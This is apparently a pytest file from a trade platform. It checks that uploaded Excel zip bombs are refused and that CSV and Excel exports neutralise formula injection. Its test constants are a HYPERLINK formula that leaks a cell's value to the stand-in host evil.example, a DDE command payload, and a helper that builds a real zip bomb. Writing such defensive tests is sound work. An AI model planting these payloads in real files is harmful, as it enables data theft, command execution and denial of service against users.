"""Spreadsheets in and out: a zip bomb is refused before openpyxl unpacks it, and no Excel or CSV file the
platform writes carries a formula an enterprise typed (CSV / formula injection)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from kuajing.errors import AppError
from kuajing.spreadsheets import MAX_UNPACKED_BYTES, append_row, csv_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"


def _bomb(padding: int = MAX_UNPACKED_BYTES + 1024 * 1024) -> bytes:
    """A real workbook whose first sheet is padded with white space: about 200 KB that unpacks past the limit."""
    wb = Workbook()
    wb.active.append(["a"])
    plain = io.BytesIO()
    wb.save(plain)
    source = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(item.filename, data)
                continue
            head, _, tail = data.partition(b"<sheetData>")
            with bomb.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(head + b"<sheetData>")
                chunk = b" " * (1024 * 1024)
                for _ in range(padding // len(chunk)):
                    sheet.write(chunk)
                sheet.write(tail)
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return _bomb()


def test_order_upload_refuses_a_zip_bomb_before_unpacking(bomb):
    from kuajing.imports.service.excel import read_rows

    assert len(bomb) < 2 * 1024 * 1024
    with pytest.raises(AppError) as caught:
        read_rows(bomb, locale="en")
    issue = caught.value.errors[0]
    assert (issue.code, issue.path) == ("imports_excel_unpacked_too_large", "file")
    assert issue.params == {"mb": 200}


def test_order_upload_refuses_bytes_that_are_no_zip():
    from kuajing.imports.service.excel import read_rows

    with pytest.raises(AppError) as caught:
        read_rows(b"MZ\x90\x00 this is no workbook", locale="en")
    assert caught.value.errors[0].code == "imports_excel_not_a_workbook"


def test_bonded_upload_refuses_a_zip_bomb(bomb):
    from kuajing.bonded.service import parse_entry_workbook

    with pytest.raises(AppError) as caught:
        parse_entry_workbook(bomb)
    issue = caught.value.errors[0]
    assert (issue.code, issue.path) == ("bonded_upload_invalid", "file")
    assert issue.params == {"mb": 200}


def test_the_refusal_is_translated():
    from kuajing.i18n import gettext

    text = "The workbook unpacks to more than {mb} MB; split the file."
    for locale in ("zh_Hans", "ru", "mn"):
        assert gettext(text, locale, mb=200) != gettext(text, "en", mb=200)
        assert "200" in gettext(text, locale, mb=200)


def test_csv_cell_quotes_formulas_but_not_numbers():
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK
    assert csv_cell(DDE) == "'" + DDE
    for text in ("+1+cmd", "-2+3", "@SUM(A1)", "\t=1"):
        assert csv_cell(text).startswith("'")
    for text in ("-12.50", "12", "+3", "羊绒衫", "", "1e5"):
        assert csv_cell(text) == text
    assert csv_cell(5) == 5


def test_append_row_writes_text_never_a_formula():
    wb = Workbook()
    append_row(wb.active, [HYPERLINK, "plain", 3])
    out = io.BytesIO()
    wb.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.value == HYPERLINK


def _entry(goods_name: str):
    return SimpleNamespace(id=1, kind="original", corrects_id=None, list_no="QD0001", gnum=1,
                           export_date=date(2026, 3, 1), goods_name=goods_name, unit="007", quantity=Decimal("2"),
                           unit_price=Decimal("10.5"), amount=Decimal("21"), currency="142", hs_code="6110120000",
                           declare_customs="0201", eligible=True, recorded_at=datetime(2026, 3, 1, tzinfo=UTC))


def test_no_invoice_register_exports_carry_no_formula():
    from kuajing.export_summary.service import register_csv, register_xlsx

    headers = [f"h{i}" for i in range(16)]
    rows = list(csv.reader(io.StringIO(register_csv([_entry(DDE)], headers).decode("utf-8-sig"))))
    assert rows[1][6] == "'" + DDE
    sheet = load_workbook(io.BytesIO(register_xlsx([_entry(HYPERLINK)], headers, "register"))).active
    assert sheet["G2"].value == HYPERLINK and sheet["G2"].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_customs_declaration_package_carries_no_formula():
    from kuajing.exports.service.routing import excel

    package = {"trade_mode": "9710", "order_no": "O1", "ebp_code": "E1", "consignor_code": "C1",
               "consignor_name": HYPERLINK, "currency": "142", "goods_value": "1", "freight": "0", "value_cny": "1",
               "lines": [{"gnum": 1, "item_no": "@SUM(1+1)", "item_name": DDE, "unit": "007", "qty": "1",
                          "price": "1", "total_price": "1", "currency": "142"}]}
    declaration = SimpleNamespace(package=package, attachment_type="x", attachment_no="=1+1")
    wb = load_workbook(io.BytesIO(excel(declaration)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert DDE in [c.value for c in cells] and HYPERLINK in [c.value for c in cells]
